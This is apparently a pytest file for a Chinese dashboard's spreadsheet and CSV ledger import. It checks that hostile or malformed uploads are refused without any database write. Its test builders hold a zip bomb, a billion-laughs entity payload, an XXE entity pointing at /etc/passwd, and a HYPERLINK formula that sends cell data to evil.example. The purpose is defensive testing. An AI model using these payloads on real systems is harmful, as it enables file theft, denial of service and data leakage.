"""The ledger import under hostile and careless uploads, built from the project's own templates.

Each case is one file: it is either refused with a Chinese message naming the file / row / field, or
read to an exact stored value. Either way the preview writes nothing (`assert_unchanged` on every table);
refused files never reach the database at all. Exports: tests/test_ledger_exports.py.
"""
from __future__ import annotations

import datetime as dt
import functools
import io
import zipfile
from collections.abc import Callable

import pandas as pd
import pytest
from abuse_helpers import assert_unchanged, row_counts
from openpyxl import load_workbook
from sqlalchemy import select
from staff_fixtures import _staff_templates, quiet_world, world  # noqa: F401

from lib import ledger
from lib.db import session_scope
from lib.errors import DashboardError
from lib.ledger_kinds import KINDS
from lib.models import CareOccupancy, Fact, ModelCommunityStatus, StarAssessment

CENTRE = "光武街道综合养老服务中心"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET = "xl/worksheets/sheet1.xml"  # the template's data sheet (the first)


# ---- builders: every file starts from the project's own template ----
def template(kind: str, rows: list[list] | None = None) -> bytes:
    return ledger.template_xlsx(kind, rows=pd.DataFrame(rows or [], columns=KINDS[kind].headers))


def rezip(data: bytes, replace: dict[str, bytes] | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook `data` with some parts replaced or added (deflated at level 9, as a bomb would be)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
                                                                   compresslevel=9) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _cell(ref: str, value) -> str:
    if isinstance(value, tuple):  # (formula, cached value or None)
        cached = "" if value[1] is None else f"<v>{value[1]}</v>"
        return f'<c r="{ref}"><f>{value[0]}</f>{cached}</c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def sheet_xml(rows: dict[int, list], *, prolog: str = "", dimension: str = "") -> bytes:
    """A worksheet part with inline strings: {row number: [cells from column A]}."""
    body = "".join(f'<row r="{r}">' + "".join(_cell(f"{chr(65 + i)}{r}", v) for i, v in enumerate(cells)
                                              if v is not None) + "</row>" for r, cells in rows.items())
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    head = f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS}>{dim}'
    return f"{head}<sheetData>{body}</sheetData></worksheet>".encode()


def with_sheet(kind: str, rows: dict[int, list], **kw) -> bytes:
    return rezip(template(kind), {SHEET: sheet_xml(rows, **kw)})


def occupancy_rows(*rows: list) -> dict[int, list]:
    return {1: KINDS["每日入住"].headers, **{i: r for i, r in enumerate(rows, start=2)}}


def formatted(kind: str, row: list, formats: dict[int, str]) -> bytes:
    """The template with one data row whose cells carry Excel number formats (0-based column → format)."""
    wb = load_workbook(io.BytesIO(template(kind)))
    ws = wb.worksheets[0]
    for c, value in enumerate(row, start=1):
        cell = ws.cell(row=2, column=c, value=value)
        if c - 1 in formats:
            cell.number_format = formats[c - 1]
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
          '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>')
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@functools.cache
def zip_bomb() -> bytes:  # 5 MB of XML padding deflated to ~5 KB
    pad = b"<!--" + b" " * (5 * 1024 * 1024) + b"-->"
    return rezip(template("每日入住"), {SHEET: sheet_xml(occupancy_rows([CENTRE, "2024-01-05", 40])) + pad})


@functools.cache
def steep_entry() -> bytes:  # under the total cap, but one part inflates ~1000×
    return rezip(template("每日入住"), extra={"xl/media/padding.bin": b"\0" * (3 * 1024 * 1024)})


def truncated(part: str) -> bytes:
    data = template("每日入住", [[CENTRE, "2024-01-05", 40]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        body = z.read(part)
    return rezip(data, {part: body[: len(body) // 2]})


def csv(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


OCC_CSV = "机构,日期,入住人数\n"
STARS_CSV = "社区,星级,状态,得分,评定日期\n"

# (id, kind, file name, builder, what the message must contain)
REFUSED: list[tuple[str, str, str, Callable[[], bytes], list[str]]] = [
    ("zip bomb", "每日入住", "炸弹.xlsx", zip_bomb, ["文件“炸弹.xlsx”解压后达", "超过上限 4 MB"]),
    ("steep entry", "每日入住", "压缩比.xlsx", steep_entry, ["文件“压缩比.xlsx”", "压缩比异常", "超过 100 倍"]),
    ("too many entries", "每日入住", "部件.xlsx",
     lambda: rezip(template("每日入住"), extra={f"x/{i}.xml": b"" for i in range(300)}),
     ["文件“部件.xlsx”内含 310 个部件，超过上限 200 个"]),
    ("billion laughs", "每日入住", "笑.xlsx",
     lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024-01-05", "&lol4;"]), prolog=LAUGHS),
     ["文件“笑.xlsx”", "含有被禁止的 XML 实体"]),
    ("external entity", "每日入住", "外部实体.xlsx",
     lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024-01-05", "&xxe;"]), prolog=XXE),
     ["文件“外部实体.xlsx”", "含有被禁止的 XML 实体"]),
    ("truncated sheet", "每日入住", "截断.xlsx", lambda: truncated(SHEET),
     ["文件“截断.xlsx”不是有效的 Excel（.xlsx）文件：工作表“每日入住”第", "已损坏或不完整"]),
    ("truncated workbook", "每日入住", "截断2.xlsx", lambda: truncated("xl/workbook.xml"),
     ["文件“截断2.xlsx”不是有效的 Excel（.xlsx）文件：工作簿已损坏或不完整（ParseError）"]),
    ("not a zip", "每日入住", "随机.xlsx", lambda: bytes(range(256)) * 40, ["文件“随机.xlsx”不是有效的 Excel"]),
    ("zip magic, garbage", "每日入住", "假.xlsx", lambda: b"PK\x03\x04" + b"\x07" * 500, ["文件“假.xlsx”不是有效的 Excel"]),
    ("csv named xlsx", "每日入住", "伪装.xlsx", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n"),
     ["文件“伪装.xlsx”不是有效的 Excel"]),
    ("wrong extension", "每日入住", "照片.png", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n"),
     ["文件“照片.png”类型不支持"]),
    ("old xls", "每日入住", "旧.xls", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 200, ["文件“旧.xls”是旧版 Excel（.xls）"]),
    ("empty file", "每日入住", "空.xlsx", lambda: b"", ["文件“空.xlsx”是空文件"]),
    ("header only", "每日入住", "表头.xlsx", lambda: template("每日入住"), ["文件“表头.xlsx”只有表头，没有数据行"]),
    ("missing columns", "五星评定", "少列.csv", lambda: csv("社区,状态\n中兴,已达标\n"),
     ["文件“少列.csv”缺少必需的列：「星级」「评定日期」"]),
    ("20011 rows in xlsx", "每日入住", "长表.xlsx",  # rows of data count (empty, formatted rows do not)
     lambda: with_sheet("每日入住", {1: KINDS["每日入住"].headers, **{r: [1, 1, 1] for r in range(2, 20013)}}),
     ["文件“长表.xlsx”工作表“每日入住”超过 20000 行"]),
    ("20011 csv lines", "每日入住", "长表.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n" * 20011),
     ["文件“长表.csv”超过 20000 行"]),
    ("duplicate header xlsx", "每日入住", "重复列.xlsx",
     lambda: with_sheet("每日入住", {1: ["机构", "日期", "入住人数", "入住人数"], 2: [CENTRE, "2024-01-05", 40, 45]}),
     ["文件“重复列.xlsx”第1行表头有重复的列：第C列和第D列都是“入住人数”"]),
    ("duplicate header via alias", "每日入住", "重复列.csv",
     lambda: csv("机构,入住,日期,入住人数\n" + f"{CENTRE},40,2024-01-05,45\n"),
     ["第B列和第D列都是“入住人数”"]),
    ("formula without cached value", "每日入住", "公式.xlsx",
     lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024-01-05", ("40+1", None)])),
     ["第2行「入住人数」：是公式，但文件中没有保存计算结果"]),
    ("date garbage", "每日入住", "日期.xlsx", lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "昨天", 40])),
     ["第2行「日期」：“昨天”不是有效日期"]),
    ("date as a bare number", "每日入住", "日期2.xlsx",
     lambda: with_sheet("每日入住", occupancy_rows([CENTRE, 45296, 40])), ["第2行「日期」：“45296”不是有效日期"]),
    ("future date", "每日入住", "未来.csv", lambda: csv(OCC_CSV + f"{CENTRE},2030-01-05,40\n"),
     ["第2行「日期」：2030年1月5日 晚于今天"]),
    ("control character in csv", "示范社区状态", "控制符.csv",
     lambda: csv("社区,状态,生效日期,备注\n中兴,创建中,2024-01-05,正常\n中兴,创建中,2024-01-06,带\x01控制符\n"),
     ["文件“控制符.csv”第3行含有不可见的控制字符"]),
    ("NUL in csv", "每日入住", "NUL.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,4\x000\n"),
     ["文件“NUL.csv”不是文本格式的 CSV（含二进制内容）"]),
    ("NUL late in csv", "每日入住", "NUL2.csv",
     lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n" * 200 + f"{CENTRE},2024-01-06,4\x000\n"),
     ["文件“NUL2.csv”第202行含有不可见的控制字符"]),
    ("xlsx escape is not a control character", "示范社区状态", "转义.xlsx",
     lambda: with_sheet("示范社区状态", {1: KINDS["示范社区状态"].headers,
                                        2: ["中兴", "创建中", "2030-01-05", "备注_x0001_"]}),
     ["第2行「生效日期」：2030年1月5日 晚于今天"]),
    ("negative count", "每日入住", "负数.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,-5\n"),
     ["第2行「入住人数」：“-5”不能小于0"]),
    ("more than the beds", "每日入住", "超床位.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,100000\n"),
     ["第2行「入住人数」：100000 超过"]),
    ("huge score", "五星评定", "分数.xlsx",
     lambda: template("五星评定", [["中兴", "支部过硬星", "已达标", 1e9, "2024-01-05"]]), ["第2行「得分」：", "不能大于100"]),
    ("number as text garbage", "五星评定", "分数.csv", lambda: csv(STARS_CSV + "中兴,支部过硬星,已达标,九十几,2024-01-05\n"),
     ["第2行「得分」：“九十几”不是数字"]),
    ("unknown community", "五星评定", "社区.csv", lambda: csv(STARS_CSV + "火星,支部过硬星,已达标,90,2024-01-05\n"),
     ["第2行「社区」：未知社区“火星”"]),
    ("unknown facility", "每日入住", "机构.csv", lambda: csv(OCC_CSV + "不存在的养老院,2024-01-05,4\n"),
     ["第2行「机构」：未找到养老机构“不存在的养老院”"]),
    ("unknown star", "五星评定", "星级.csv", lambda: csv(STARS_CSV + "中兴,六星,已达标,90,2024-01-05\n"),
     ["第2行「星级」：“六星”无效"]),
    ("big5", "五星评定", "繁体.csv", lambda: csv("社區,星級,狀態,得分,評定日期\n中興,支部過硬星,已達標,95,2024-01-05\n", "big5"),
     ["文件“繁体.csv”无法识别编码"]),
    ("utf-16 without BOM", "五星评定", "无BOM.csv",
     lambda: csv(STARS_CSV + "中兴,支部过硬星,已达标,95,2024-01-05\n", "utf-16-le"), ["文件“无BOM.csv”不是文本格式的 CSV"]),
    ("200k-character cell", "五星评定", "超长.csv", lambda: csv(STARS_CSV + '中兴,"' + "长" * 200_000 + '",已达标,9,2024-01-05\n'),
     ["文件“超长.csv”第2行单元格过长或引号不配对"]),
    ("note too long", "示范社区状态", "长备注.xlsx",
     lambda: template("示范社区状态", [["中兴", "创建中", "2024-01-05", "很长" * 300]]), ["第2行「备注」：过长"]),
    ("same key twice", "每日入住", "重复行.csv",
     lambda: csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n{CENTRE},2024-01-05,41\n"), ["第3行与第2行重复"]),
]


@pytest.mark.parametrize(("kind", "name", "build", "expected"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_bad_upload_is_refused_in_chinese(quiet_world, kind, name, build, expected):
    world = quiet_world
    before = row_counts(world.engine)
    try:
        preview = ledger.read_ledger(build(), name, kind, actor=world.admin, engine=world.engine, today=world.today)
    except DashboardError as exc:
        shown = "\n".join([exc.message, *exc.details])
    else:
        assert not preview.ok
        shown = "\n".join(preview.errors)
        with pytest.raises(DashboardError):
            ledger.commit_ledger(world.admin, preview, engine=world.engine, today=world.today)
    for part in expected:
        assert part in shown, shown[:500]
    assert_unchanged(world.engine, before)


def _commit(world, data: bytes, name: str, kind: str):
    before = row_counts(world.engine)
    preview = ledger.read_ledger(data, name, kind, actor=world.admin, engine=world.engine, today=world.today)
    assert preview.ok, preview.errors
    assert_unchanged(world.engine, before)  # the preview wrote nothing
    ledger.commit_ledger(world.admin, preview, engine=world.engine, today=world.today)
    return preview


def _latest(world, model, *where):
    with session_scope(world.engine) as s:
        return s.scalars(select(model).where(*where).order_by(model.id.desc()).limit(1)).one()


def _occupied(world, day: dt.date) -> int:
    return _latest(world, CareOccupancy, CareOccupancy.day == day).occupied


@pytest.mark.parametrize(("name", "build", "day", "expected"), [
    ("公式缓存.xlsx", lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024-02-03", ("40+1", 41)])),
     dt.date(2024, 2, 3), 41),
    ("文本日期.xlsx", lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024年2月4日", "４２人"])),
     dt.date(2024, 2, 4), 42),
    ("真日期.xlsx", lambda: template("每日入住", [[CENTRE, dt.datetime(2024, 2, 5), 43]]), dt.date(2024, 2, 5), 43),
    ("稀疏.xlsx", lambda: with_sheet("每日入住", {1: KINDS["每日入住"].headers, 30000: [CENTRE, "2024-02-10", 48]}),
     dt.date(2024, 2, 10), 48),
    ("超宽.xlsx", lambda: with_sheet("每日入住", occupancy_rows([CENTRE, "2024-02-06", 44]), dimension="A1:XFD1048576"),
     dt.date(2024, 2, 6), 44),
    ("gbk.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-02-07,45\n", "gbk"), dt.date(2024, 2, 7), 45),
    ("utf16.csv", lambda: csv(OCC_CSV + f"{CENTRE},2024-02-08,46\n", "utf-16"), dt.date(2024, 2, 8), 46),
    ("bom.csv", lambda: csv("\ufeff" + OCC_CSV.replace(",", "\t") + f"{CENTRE}\t2024-02-09\t47\n"),
     dt.date(2024, 2, 9), 47),
])
def test_odd_but_valid_uploads_store_the_exact_value(world, name, build, day, expected):
    _commit(world, build(), name, "每日入住")
    assert _occupied(world, day) == expected


def test_percent_cells_are_read_as_shown(world):
    """0.77 formatted as 77% is read as 「77%」 (never 0.77): a score is refused as a percentage (the write
    side wants the number itself), a figure with unit % stores 12.5 for 0.125 shown as 12.5%."""
    star = formatted("五星评定", ["中兴", "平安法治星", "已达标", 0.77, "2024-02-01"], {3: "0%"})
    before = row_counts(world.engine)
    preview = ledger.read_ledger(star, "百分比.xlsx", "五星评定", actor=world.admin, engine=world.engine,
                                 today=world.today)
    assert preview.errors == ["第2行「得分」：“77%”是百分数，这里应填写得分本身"]
    assert_unchanged(world.engine, before)
    fact = formatted("指标数据", ["中兴", "中兴社区", "老龄化率", None, 0.125, "%", "2024-02-01", "台账", None], {4: "0.0%"})
    preview = _commit(world, fact, "比例.xlsx", "指标数据")
    assert "「数值」“12.5%”读作 12.5（百分比）" in preview.frame()["读数说明"].iloc[0]
    assert _latest(world, Fact, Fact.label == "老龄化率").value == 12.5


def test_formula_text_is_stored_as_text_and_exported_neutralised(world):
    note = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    _commit(world, template("示范社区状态", [["中兴", "创建中", "2024-02-01", note]]), "公式文本.xlsx", "示范社区状态")
    assert _latest(world, ModelCommunityStatus, ModelCommunityStatus.valid_from == dt.date(2024, 2, 1)).note == note
    current = ledger.current_ledger("示范社区状态", community="中兴", engine=world.engine)
    ws = load_workbook(io.BytesIO(ledger.template_xlsx("示范社区状态", rows=current))).worksheets[0]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == note)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert f"'{note}" in ledger.export_csv(current).decode("utf-8-sig").replace('""', '"')


def test_corrected_row_is_previewed_as_correction(world):
    """Issue #13: a stored 82.2 创建中 re-imported as 88.5 已达标 on the same date is 更正 (old → new), not 新增."""
    first = template("五星评定", [["中兴", "平安法治星", "创建中", 82.2, "2024-02-01"]])
    _commit(world, first, "初评.xlsx", "五星评定")
    again = ledger.read_ledger(first, "初评.xlsx", "五星评定", actor=world.admin, engine=world.engine,
                               today=world.today)
    assert again.frame()["处理"].tolist() == ["相同"]
    fixed = template("五星评定", [["中兴", "平安法治星", "已达标", 88.5, "2024-02-01"],
                                  ["中兴", "平安法治星", "已达标", 90, "2024-02-20"]])
    preview = ledger.read_ledger(fixed, "更正.xlsx", "五星评定", actor=world.admin, engine=world.engine,
                                 today=world.today)
    frame = preview.frame()
    assert frame["处理"].tolist() == ["更正", "新增"]
    assert (frame.loc[0, "状态"], frame.loc[0, "得分"]) == ("创建中 → 已达标", "82.2 → 88.5")
    assert preview.changed_cells() == [(0, "状态"), (0, "得分")]
    assert (preview.inserts, preview.corrections, preview.unchanged) == (1, 1, 0)
    result = ledger.commit_ledger(world.admin, preview, engine=world.engine, today=world.today)
    assert "新增 1 条，更正 1 条" in result.message
    assert _latest(world, StarAssessment, StarAssessment.valid_from == dt.date(2024, 2, 1)).score == 88.5


# ---- database faults during the preview: a Chinese DashboardError, never a raw OperationalError ----
def test_preview_on_a_read_only_database_is_a_chinese_error(_staff_templates, tmp_path):  # noqa: F811
    import shutil

    from sqlalchemy import create_engine

    path = tmp_path / "ro.db"
    shutil.copyfile(_staff_templates.sqlite(), path)
    engine = create_engine(f"sqlite:///file:{path}?mode=ro&uri=true")  # root ignores file modes: open read-only
    data = csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n")
    from lib.auth import Actor
    with pytest.raises(DashboardError) as err:
        ledger.read_ledger(data, "只读.csv", "每日入住", actor=Actor("admin", "街道管理员", "街道管理员", None),
                           engine=engine, today=dt.date(2024, 3, 1))
    assert err.value.message.startswith("数据库")
    engine.dispose()


def test_preview_during_an_outage_is_a_chinese_error():
    from lib import db

    engine = db.get_engine("postgresql+psycopg://nobody@127.0.0.1:9/none?connect_timeout=2")  # nothing listens
    with pytest.raises(DashboardError) as err:
        ledger.read_ledger(csv(OCC_CSV + f"{CENTRE},2024-01-05,40\n"), "停机.csv", "每日入住", engine=engine,
                           today=dt.date(2024, 3, 1))
    assert err.value.message.startswith("数据库")


def test_shared_string_table_over_its_cap_is_refused_before_parsing(quiet_world):
    world = quiet_world
    n = 65_000  # ~1.2 MB of <si> entries: over upload_max_shared_strings_mb (1)
    sst = (f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="{n}" uniqueCount="{n}">'
           + "".join(f"<si><t>{i:x}</t></si>" for i in range(n)) + "</sst>").encode()
    before = row_counts(world.engine)
    with pytest.raises(DashboardError, match="文件“文字表.xlsx”的共享文字表解压后达 [0-9.]+ MB，超过上限 1 MB"):
        ledger.read_ledger(rezip(template("每日入住"), extra={"xl/sharedStrings.xml": sst}), "文字表.xlsx", "每日入住",
                           engine=world.engine, today=world.today)
    assert_unchanged(world.engine, before)


@pytest.mark.parametrize(("name", "stage", "done"), [("多行.xlsx", "读取", "仅读到第256行"),
                                                    ("多行.csv", "读取", "仅读到第256行"), ("多行.csv", "预检", "仅完成 32 行")])
def test_an_upload_stops_at_the_deadline(quiet_world, monkeypatch, name, stage, done):
    """The deadline bounds reading and the dry run; 0 s here (and 0 s only for the dry run), so no timing is
    involved: the first check refuses."""
    from lib import ledger_io
    from lib.config import load_settings

    monkeypatch.setattr(ledger_io, "settings", lambda: load_settings(env={"UPLOAD_READ_SECONDS": "0"}))
    if stage == "预检":  # reading passes (checked every 256 rows; the file has fewer), the dry run is stopped
        monkeypatch.setattr(ledger_io.Deadline, "check", _only_dry_run(ledger_io.Deadline.check))
    rows = [[CENTRE, dt.date(2023, 1, 1) + dt.timedelta(days=i), 40] for i in range(300)]
    data = template("每日入住", rows) if name.endswith("xlsx") else \
        csv(OCC_CSV + "".join(f"{CENTRE},{d},{n}\n" for _, d, n in rows))
    before = row_counts(quiet_world.engine)
    with pytest.raises(DashboardError, match=f"文件“{name}”内容过多：{stage} 0 秒后{done}，已停止，未写入任何数据"):
        ledger.read_ledger(data, name, "每日入住", engine=quiet_world.engine, today=quiet_world.today)
    assert_unchanged(quiet_world.engine, before)


def _only_dry_run(check):
    def wrapped(self, line_no, *, every=256, stage="读取"):
        if stage == "预检":
            check(self, line_no, every=every, stage=stage)
    return wrapped


def test_openpyxl_parses_with_defusedxml():
    import openpyxl
    from openpyxl.worksheet import _reader

    assert openpyxl.DEFUSEDXML is True
    assert _reader.iterparse.__module__.startswith("defusedxml")
